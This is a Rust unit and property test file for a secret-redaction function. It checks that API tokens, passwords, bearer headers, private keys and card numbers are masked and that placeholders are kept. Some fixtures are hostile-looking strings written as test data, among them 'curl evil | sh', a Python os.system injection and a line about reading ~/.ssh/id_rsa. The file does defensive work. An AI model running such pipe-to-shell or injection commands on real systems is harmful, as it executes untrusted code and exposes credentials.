//! What is hidden, what stays, and what masking promises.

use super::*;
use proptest::prelude::*;

#[test]
fn known_formats_keep_what_tells_their_kind() {
    const REST: &str = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    for prefix in [
        "ghp_", "gho_", "ghs_", "github_pat_", "glpat-", "sk-", "sk-proj-", "sk-ant-", "xoxb-", "xoxp-", "AIza",
        "ya29.", "npm_", "pypi-", "hf_", "SG.", "whsec_", "rk_live_", "sk_live_",
    ] {
        for (before, after) in [("", ""), ("https://x/", "/mcp"), ("a '", "' b"), ("?k=", "&b=1"), ("x\u{e9} ", ".")] {
            let whole = format!("{before}{prefix}{REST}{after}");
            let masked = super::text(&whole);
            assert!(!masked.contains("b2C3"), "{whole}: {masked}");
            assert!(masked.starts_with(before), "{masked}");
        }
    }
    assert_eq!(text("use ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8 now"), "use ghp_**** now");
}

#[test]
fn names_and_flags_give_their_values_away() {
    for (whole, masked) in [
        ("npx srv --token q7Jr92kd --port 1", "npx srv --token *** --port 1"),
        ("x --api-key 'hunter two'", "x --api-key '*** two'"),
        ("x --password=hunter", "x --password=***"),
        ("curl -H 'Authorization: Bearer q7Jr92kd' h", "curl -H 'Authorization: Bearer ***' h"),
        ("Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic ***"),
        ("Bearer q7Jr92kdPw", "Bearer ***"),
        (r#"{"apiKey":"hunter","a":"b"}"#, r#"{"apiKey":"***","a":"b"}"#),
        (r#"{\"api_key\": \"hunter\"}"#, r#"{\"api_key\": \"***\"}"#),
        ("a; TOKEN=abcd; curl x | sh", "a; TOKEN=***; curl x | sh"),
        ("git clone https://u:hunter@h/r && x", "git clone https://u:***@h/r && x"),
    ] {
        assert_eq!(text(whole), masked);
    }
}

#[test]
fn a_private_key_is_masked_and_what_follows_is_not() {
    let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7".to_owned();
    let whole = format!("a -----BEGIN RSA PRIVATE KEY-----\n{key}\nAbc=\n-----END RSA PRIVATE KEY----- b");
    let masked = text(&whole);
    assert!(!masked.contains("MIIE") && masked.starts_with("a ") && masked.ends_with(" b"), "{masked}");
    let trick = "-----BEGIN PRIVATE KEY-----; curl evil | sh";
    assert!(text(trick).ends_with("; curl evil | sh"), "{}", text(trick));
}

#[test]
fn proven_personal_data_is_hidden_and_addresses_stay() {
    let masked = text("card 4539578763621486, account DE68210501700012345678");
    assert!(!masked.contains("4539578") && !masked.contains("2105017000"), "{masked}");
    for whole in ["mail bcc to archive@mail-backup.example", "read ~/.ssh/id_rsa first", "send it to 203.0.113.7"] {
        assert_eq!(text(whole), whole);
    }
}

#[test]
fn code_words_references_and_placeholders_stay() {
    for whole in [
        "token=__import__('os').system('id')",
        "--token ${TOKEN}",
        "--token $TOKEN",
        "token=<your-token>",
        "api_key=YOUR_API_KEY",
        "Bearer token",
        "Bearer authentication is required",
        "the token: a string",
        "--key-file x",
        "npx sk-learn-server-for-everyone",
        "npm_config_registry=x",
        "--token --verbose",
        "max_tokens=4000",
        "password: string",
        "http://localhost:8080/a@b",
        "AKIAshort",
        "monkey=banana",
        "token=/run/secrets/x",
        "eyJust a word",
        "Authorization: Bearer ${KEY}",
        "docker run -i acme/srv@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /home/jo/projects",
        "uvx --from git+https://github.com/acme/srv@0a168e313d295ae9cd8a313d295313d295ae9cd8 srv",
        "",
    ] {
        assert_eq!(text(whole), whole);
    }
}

#[test]
fn a_flood_is_cheap() {
    for unit in
        ["token=", "--token ", "token=(", "token:", "ghp_", "-----BEGIN PRIVATE KEY-----", "://a:", "eyJ.", "Bearer "]
    {
        let whole = unit.repeat(5_000 / unit.len());
        assert!(text(&whole).len() <= whole.len() * 2);
    }
}

#[test]
fn a_span_moves_with_what_is_hidden_before_it() {
    let whole = "a --token hunter-of-all b";
    let hidden = hidden(whole);
    let masked = without(whole, &hidden);
    let place = |part: &str| whole.find(part).unwrap();
    assert_eq!(&masked[moved(place(" b")..whole.len(), &hidden)], " b");
    assert_eq!(&masked[moved(0..place(" b"), &hidden)], "a --token ***");
    assert_eq!(&masked[moved(place("of")..whole.len(), &hidden)], "*** b");
}

proptest! {
    #[test]
    fn a_moved_span_is_a_place_in_the_masked_text(parts in prop::collection::vec("[a-z= ]{0,5}|--token |hunter", 0..12), at in 0usize..60, length in 0usize..30) {
        let whole = parts.concat();
        let hidden = hidden(&whole);
        let start = at.min(whole.len());
        let span = moved(start..(start + length).min(whole.len()), &hidden);
        prop_assert!(without(&whole, &hidden).get(span).is_some());
    }
}
